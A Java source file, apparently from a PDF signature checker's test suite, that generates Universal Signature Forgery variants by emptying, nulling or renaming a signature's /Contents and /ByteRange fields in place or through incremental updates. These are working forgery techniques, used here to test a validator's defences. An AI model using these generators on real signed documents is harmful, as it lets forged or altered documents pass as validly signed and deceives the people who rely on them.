package fr.paraphe.documents.archive.attacks;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSNull;
import org.apache.pdfbox.cos.COSString;
import org.jspecify.annotations.Nullable;

/** Universal signature forgery (USF, 2019): the signature is shown, but what is needed to verify it is missing or makes no sense. */
final class UniversalForgery {
    private static final String TOLD = "Une signature a été vidée ou faussée\u00a0: elle s'affiche, mais ne protège plus rien.";

    private UniversalForgery() {}

    static List<Attack> of(Victim victim) throws IOException {
        var attacks = new ArrayList<Attack>();
        for (Map.Entry<String, byte[]> start : Map.of("once", victim.once(), "closed", victim.closed()).entrySet()) {
            for (Map.Entry<String, byte[]> made : inPlace(start.getValue()).entrySet()) {
                attacks.add(new Attack("USF in place, " + made.getKey() + ", " + start.getKey(), made.getValue(), TOLD));
            }
            for (COSName key : List.of(COSName.CONTENTS, COSName.BYTERANGE)) {
                for (@Nullable COSBase value : values(key)) {
                    attacks.add(new Attack("USF by an increment, " + key.getName() + " " + value + ", " + start.getKey(),
                            changed(start.getValue(), key, value), TOLD));
                }
            }
        }
        byte[] emptied = changed(victim.signed(), COSName.CONTENTS, new COSString(new byte[0]));
        attacks.add(new Attack("USF, then signed by an honest person", victim.coverUp(emptied), TOLD));
        return attacks;
    }

    private static Map<String, byte[]> inPlace(byte[] pdf) {
        String text = Pdfs.text(pdf);
        int contents = text.lastIndexOf("/Contents <");
        int end = text.indexOf('>', contents) + 1;
        int range = text.lastIndexOf("/ByteRange");
        int close = text.indexOf(']', range) + 1;
        int length = end - contents;
        String blank = " ".repeat(close - range - "/ByteRange".length());
        return Map.of("contents of zeros", Pdfs.over(pdf, contents, "/Contents <" + "0".repeat(length - 12) + ">"),
                "contents null", Pdfs.over(pdf, contents, "/Contents null" + " ".repeat(length - 14)),
                "contents renamed", Pdfs.over(pdf, contents, "/Contentz"),
                "range renamed", Pdfs.over(pdf, range, "/ByteRangz"),
                "range null", Pdfs.over(pdf, range, "/ByteRange null" + blank.substring(5)),
                "range of nothing", Pdfs.over(pdf, range, "/ByteRange [0 0 0 0]" + blank.substring(10)));
    }

    private static List<@Nullable COSBase> values(COSName key) {
        var values = new ArrayList<@Nullable COSBase>();
        values.add(null);
        values.add(COSNull.NULL);
        if (key.equals(COSName.CONTENTS)) {
            values.add(new COSString(new byte[0]));
            values.add(new COSString(new byte[1]));
        } else {
            values.add(range(0, 0, 0, 0));
            values.add(range(0, -1, 2, -100));
            values.add(range(0, 10, 20, 1_000_000_000));
        }
        return values;
    }

    private static COSArray range(long... parts) {
        var range = new COSArray();
        for (long part : parts) {
            range.add(COSInteger.get(part));
        }
        return range;
    }

    private static byte[] changed(byte[] pdf, COSName key, @Nullable COSBase value) throws IOException {
        return Pdfs.increment(pdf, document -> {
            COSDictionary last = document.getSignatureDictionaries().getLast().getCOSObject();
            last.setItem(key, value);
            last.setNeedToBeUpdated(true);
        });
    }
}
